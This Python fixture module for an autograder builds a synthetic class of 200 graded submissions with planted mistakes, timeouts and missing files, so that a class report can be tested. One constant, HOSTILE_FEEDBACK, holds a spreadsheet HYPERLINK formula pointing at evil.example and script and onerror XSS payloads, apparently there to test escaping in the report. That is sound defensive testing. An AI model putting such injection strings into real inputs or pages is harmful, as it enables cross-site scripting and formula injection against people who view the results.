"""A graded class whose figures are known in advance, for the class report.

Every result is built as grading leaves it (:class:`SubmissionResult` objects, written to
``<out>/<submission>.json`` as ``grader run --out`` writes them), without grading: the tests
are the hidden suites' own (names, exercises, points scaled to the course's totals), the
mistakes are those the bug fixtures make (the feedback their tests give, the numbers in it
drawn per student), planted on fixed students, and seeded variations add failures elsewhere
so that the figures look like a class's. What was planted is in the constants below; the
tests assert the report's figures against them.
"""

from __future__ import annotations

import ast
import random
from pathlib import Path

from grader.grading.grade import REDUCED_ISOLATION
from grader.kit import EXERCISES
from grader.results import feedback_page
from grader.results.model import GradedTest, SubmissionResult
from grader.submissions.handin import missing_message, near_miss_sentence

SIZE = 200
STUDENTS = [f"s{i:03d}" for i in range(SIZE)]

EMPTY = range(0, 3)
"""Handed in a zip that could not be read: no test ran; total 0."""
UNREADABLE = "s000.zip is not a valid zip file"
MISSING_EX3 = range(3, 13)
"""Handed in no ex3_data.py ..."""
NEAR_MISS = range(3, 7)
"""... of whom these handed in ``ex3-data.py`` instead."""
SIGN = range(20, 80)
"""sse_grads with the sign wrong."""
FACTOR_2 = range(80, 105)
"""sse_grads without the factor 2."""
SSE_GRADS = "test_sse_grads_match_finite_differences"
NOBODY = "test_fit_sine_defaults"
"""A test every student fails (with one message): a broken test."""
EVERYBODY = "test_layers_are_the_tutorials"
"""A test every student graded passes."""
STRONGEST_FAIL = "test_sgd_step_returns_new_array"
STRONGEST = range(160, 200)
"""The strongest students (no other planted mistake, fewest variations) fail this one."""
SLOW = "test_train_step_one_step"
TIMEOUTS = range(40, 60)
ERRORS = range(60, 65)
SLOW_FAILS = range(65, 70)
"""That test times out for 20 students, the grader errs for 5, 5 fail it: its failures are
mostly not the students' answers."""
REDUCED = range(140, 155)
"""Graded under reduced isolation."""
SKIPPED_CELLS = range(150, 158)
"""A notebook cell of ex5_train.ipynb skipped, each for its own error."""
HOSTILE = 13
HOSTILE_TEST = "test_overall_accuracy"
"""This student's failure of this test holds markup and a formula."""
HOSTILE_FEEDBACK = (
    '=HYPERLINK("https://evil.example/?x","grades") </pre><script>alert(1)</script>'
    "<img src=x onerror=alert(2)>"
)
VARIED = (
    "test_predict_is_the_cubic",
    "test_chain_rule",
    "test_eval_transform_normalises",
    "test_logits_match_reference_forward",
    "test_per_class_accuracy",
)
"""Tests the seeded variations fail often, more often for weaker students (lower numbers);
every other test but the planted ones now and then, and at least for one student each."""
PLANTED = (SSE_GRADS, NOBODY, EVERYBODY, STRONGEST_FAIL, SLOW, "test_accuracy_gate")

THRESHOLD = 0.56
TIME_FACTOR = 2.5
STOPPED = range(13, 25)
"""The gate stopped them at its time limit (no accuracy)."""
LOW_ACCURACY = range(25, 55)
"""Trained below the threshold."""
CLASS_OFFSET = (0.05, 0.12, -0.12, -0.22, -0.05, -0.1, 0.06, 0.05, 0.1, 0.08)
"""Each class's accuracy against the student's overall: cat (3) is the weakest, then bird."""
GATE = "test_accuracy_gate"
NO_GATE = set(MISSING_EX3)
"""Whose gate never trained (their missing ex3 stops it first)."""


def catalogue() -> list[tuple[str, str, float]]:
    """``(exercise, test, points)`` of every hidden test, in suite order, its points
    (``@pytest.mark.points``, 0 without) scaled to the exercise's total as grading does."""
    found = []
    for key, exercise in EXERCISES.items():
        tree = ast.parse(exercise.suite.read_text(encoding="utf-8"))
        constants = {
            node.targets[0].id: node.value.value
            for node in tree.body
            if isinstance(node, ast.Assign)
            and isinstance(node.targets[0], ast.Name)
            and isinstance(node.value, ast.Constant)
        }
        tests = []
        for node in tree.body:
            if isinstance(node, ast.FunctionDef) and node.name.startswith("test_"):
                points = 0
                for decorator in node.decorator_list:
                    if isinstance(decorator, ast.Call) and ast.unparse(decorator.func).endswith(
                        "mark.points"
                    ):
                        arg = decorator.args[0]
                        points = arg.value if isinstance(arg, ast.Constant) else constants[arg.id]
                tests.append((node.name, points))
        total = sum(points for _, points in tests)
        found += [(key, name, round(p * exercise.points / total, 4)) for name, p in tests]
    return found


def _gate_metrics(i: int, rng: random.Random) -> dict:
    metrics = {"threshold": THRESHOLD, "time_basis": "cpu", "time_factor": TIME_FACTOR}
    metrics.update(reference_s=40.0, time_limit_s=100.0)
    if i in NO_GATE:
        return metrics
    if i in STOPPED:
        ratio = round(2.6 + 0.1 * (i - STOPPED[0]), 3)
        return {**metrics, "train_s": ratio * 40, "time_ratio": ratio, "accuracy": None}
    ratio = round(0.8 + 1.6 * rng.random(), 3)
    if i in LOW_ACCURACY:
        accuracy = 0.40 + 0.005 * (i - LOW_ACCURACY[0])
    else:
        accuracy = 0.57 + 0.12 * (i % 40) / 40
    per_class = [round(min(max(accuracy + offset, 0.0), 1.0), 4) for offset in CLASS_OFFSET]
    confusion = []
    for k, share in enumerate(per_class):
        right = round(1000 * share)
        row = [0] * 10
        row[k] = right
        row[5 if k == 3 else 3] = 1000 - right  # every mistake a cat-dog mix-up
        confusion.append(row)
    return {
        **metrics,
        "train_s": ratio * 40,
        "time_ratio": ratio,
        "accuracy": round(accuracy, 4),
        "per_class": per_class,
        "confusion": confusion,
    }


def _feedback(i: int, name: str, rng: random.Random, weakness: float) -> tuple[str, str]:
    """What test ``name`` gives student ``i``: ``(status, feedback)``."""
    value = round(rng.uniform(0.5, 9.5), 3)
    if name == SSE_GRADS and i in SIGN:
        return "failed", (
            f"sse_grads: grad for b is {-value} where finite differences give {value}: the "
            "sign is wrong: check d/db of (y_pred - y)**2"
        )
    if name == SSE_GRADS and i in FACTOR_2:
        return "failed", (
            f"sse_grads: grad for a is {value / 2:g}, expected {value:g}: a factor 2 is "
            "missing: d/dy_pred of (y_pred - y)**2 is 2 * (y_pred - y)"
        )
    if name == NOBODY:
        return "failed", "fit_sine: fit_sine() with its defaults took 5000 steps, not 5000"
    if name == STRONGEST_FAIL and i in STRONGEST:
        return "failed", "sgd_step: the input array was changed: an in-place update"
    if name == SLOW and i in TIMEOUTS:
        return "timeout", f"train_step: no answer within {30 + value:.1f} s"
    if name == SLOW and i in ERRORS:
        return "error", "the grader could not check this result (OSError: [Errno 28])"
    if name == SLOW and i in SLOW_FAILS:
        return "failed", f"train_step: the loss returned is {value}, not the loss before"
    if name == HOSTILE_TEST and i == HOSTILE:
        return "failed", HOSTILE_FEEDBACK
    if name in PLANTED:
        return "passed", ""
    rate = weakness if name in VARIED else weakness / 6
    if rng.random() < rate or i == 100 + len(name):
        return "failed", f"{name.removeprefix('test_')}: expected {value}, got {value * 1.5:.4f}"
    return "passed", ""


def result(i: int, tests: list[tuple[str, str, float]]) -> SubmissionResult:
    """Student ``i``'s result."""
    rng = random.Random(i)
    weakness = 0.6 * (1 - i / SIZE) if i not in STRONGEST else 0.0
    graded, messages, warnings = [], {}, []
    if i in EMPTY:
        messages = {key: f"not graded: {UNREADABLE}" for key in EXERCISES}
        warnings.append(f"the submission could not be read: {UNREADABLE}")
        tests = []
    for key, name, points in tests:
        metrics = _gate_metrics(i, rng) if name == GATE else {}
        if key == "ex3" and i in MISSING_EX3:
            status, sentence = "failed", ""
            if i in NEAR_MISS:
                sentence = near_miss_sentence("ex3_data", ["ex3-data.py"], [])
            feedback = missing_message("ex3_data", key, sentence)
        elif name == GATE:
            accuracy = metrics.get("accuracy")
            status = "passed" if accuracy is not None and accuracy >= THRESHOLD else "failed"
            feedback = "" if status == "passed" else "the gate: below the threshold or too slow"
        else:
            status, feedback = _feedback(i, name, rng, weakness)
        score = points if status == "passed" else 0
        graded.append(GradedTest(name, key, score, points, status, feedback, 0.01, metrics))
    if i in SKIPPED_CELLS:
        warnings.append(
            f"ex5_train.ipynb: cell {3 + i % 4} was skipped, it failed when the notebook was "
            f"run (ModuleNotFoundError: No module named 'plot{i}'); anything it defines is "
            "missing"
        )
    if i in REDUCED:
        warnings.append(REDUCED_ISOLATION)
    return SubmissionResult.build(
        STUDENTS[i],
        graded,
        {key: exercise.points for key, exercise in EXERCISES.items()},
        messages=messages,
        device="cpu",
        isolation="process" if i in REDUCED else "bwrap",
        grader_version="0.1.0",
        duration_s=60.0,
        warnings=warnings,
    )


def build(size: int = SIZE) -> list[SubmissionResult]:
    """The class, ``size`` students (more than :data:`SIZE` repeat its pattern)."""
    tests = catalogue()
    made = []
    for i in range(size):
        one = result(i % SIZE, tests)
        one.submission = f"s{i:03d}"
        made.append(one)
    return made


def write(out: Path, results: list[SubmissionResult], *, feedback: bool = True) -> Path:
    """``out`` as ``grader run --out`` leaves it: a JSON per result, a feedback page each."""
    out.mkdir(parents=True, exist_ok=True)
    for one in results:
        (out / f"{one.submission}.json").write_text(one.to_json() + "\n", encoding="utf-8")
    if feedback:
        feedback_page.write_all(results, out / "feedback")
    return out
